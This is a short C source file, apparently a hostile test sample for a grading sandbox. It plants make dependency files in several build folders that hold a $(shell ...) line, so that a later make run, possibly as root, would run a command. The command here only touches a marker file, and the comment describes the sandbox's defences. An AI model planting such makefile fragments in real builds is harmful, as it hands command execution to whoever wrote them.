/*
 * Sample class: plants make dependency files. A .d file that a later make
 * includes runs $(shell ...) with that make's rights (root, when the
 * instructor runs make). It writes one wherever it might be included: the
 * kit's build/ and its own build folder. The box's root is read-only
 * while tests run; the kit's Makefile includes no .d from a grading box.
 */
#include <stdio.h>

static const char *const places[] = {
    "build/kit-sample-evil.d",
    "/kit/build/kit-sample-evil.d",
    "/box/bin/01-hello-process/obj/kit-sample-evil.d",
    "/box/kit-sample-evil.d",
};

int main(void)
{
    for (size_t i = 0; i < sizeof places / sizeof places[0]; i++) {
        FILE *f = fopen(places[i], "w");
        if (f == NULL) {
            perror(places[i]);
            continue;
        }
        fputs("$(shell touch /tmp/kit-sample-pwned-by-d)\n", f);
        fclose(f);
    }
    return 1;
}
